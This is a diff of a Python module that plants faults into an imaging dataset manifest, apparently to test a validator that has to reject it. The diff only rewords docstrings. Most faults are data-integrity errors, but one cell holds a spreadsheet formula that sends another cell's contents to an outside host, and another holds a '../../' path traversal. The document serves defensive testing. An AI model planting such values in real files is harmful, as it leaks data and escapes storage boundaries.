@@ -1,4 +1,4 @@
-"""Faults of the manifest: cells that do harm, and rows that contradict each other."""
+"""Faults of the manifest: harmful cells and contradictory rows."""
 
 from __future__ import annotations
 
@@ -11,27 +11,27 @@ FORMULA = '=HYPERLINK("https://example.org/?"&A2,"view")'
 
 
 def formula_cell(site: FaultySite, row: Row) -> None:
-    """A cell that a spreadsheet would run."""
+    """Write a formula into a cell; a spreadsheet would run it."""
     row["view"] = FORMULA
 
 
 def path_outside(site: FaultySite, row: Row) -> None:
-    """A path that climbs out of the data root."""
+    """Write a path that leaves the data root."""
     row["image"] = f"../../{row['image']}"
 
 
 def contradicted_view(site: FaultySite, row: Row) -> None:
-    """A view from the side by the manifest, although header and picture are frontal."""
+    """Declare a lateral view in the manifest, although header and picture are frontal."""
     row["view"] = "LL"
 
 
 def unlabelled(site: FaultySite, row: Row) -> None:
-    """An empty cell where the others have labels."""
+    """Remove the labels of one study."""
     row["labels"] = ""
 
 
 def tiny_validation(site: FaultySite) -> tuple[str, ...]:
-    """One study to validate on: a sound one, of a patient who has no other; the other patients go to training."""
+    """Leave one sound study in the validation split, the only one of its patient; move the others to training."""
     counts = Counter(row["patient_id"] for row in site.rows)
     kept = site.take(lambda row: counts[row["patient_id"]] == 1)
     for row in site.rows:
@@ -42,14 +42,14 @@ def tiny_validation(site: FaultySite) -> tuple[str, ...]:
 
 
 def duplicate_study(site: FaultySite) -> tuple[str, ...]:
-    """A second row under the identifier of another study."""
+    """Give a study the identifier of another study."""
     first, second = site.take(), site.take()
     second["study_id"] = first["study_id"]
     return (first["study_id"],)
 
 
 def patient_in_two_splits(site: FaultySite) -> tuple[str, ...]:
-    """A patient who is trained on and tested on."""
+    """Put one patient into both the training and the test split."""
     row = site.take(lambda other: other["split"] == "train")
     other = site.take(lambda other: other["split"] == "train")
     row["patient_id"], row["split"] = other["patient_id"], "test"
@@ -57,22 +57,22 @@ def patient_in_two_splits(site: FaultySite) -> tuple[str, ...]:
 
 
 def missing_patient(site: FaultySite, row: Row) -> None:
-    """A study of nobody."""
+    """Remove the patient identifier of a study."""
     row["patient_id"] = ""
 
 
 def unknown_split(site: FaultySite, row: Row) -> None:
-    """A split that is spelt in another way."""
+    """Write an unknown name of a split."""
     row["split"] = "validation"
 
 
 def latin1_manifest(site: FaultySite, row: Row) -> None:
-    """A letter with an accent, saved as Latin-1 in a file of UTF-8."""
+    """Write an accented letter as Latin-1 into a UTF-8 file."""
     row["view"] = "PA couché".encode("latin-1").decode("utf-8", errors="surrogateescape")
 
 
 def two_report_columns(site: FaultySite, row: Row) -> None:
-    """A second source of the report: nobody says which one counts."""
+    """Add a second report column, which makes the source of the report ambiguous."""
     if "report" not in site.columns:
         site.columns += ("report",)
     row["report"] = "See the file."
@@ -93,4 +93,4 @@ WHOLE_MANIFEST_FAULTS: Mapping[str, Fault] = {
     "latin1-manifest": planted_once(latin1_manifest),
     "two-report-columns": planted_once(two_report_columns),
 }
-"""Those for which a reader must refuse the manifest as a whole."""
+"""Faults for which a reader must refuse the whole manifest."""
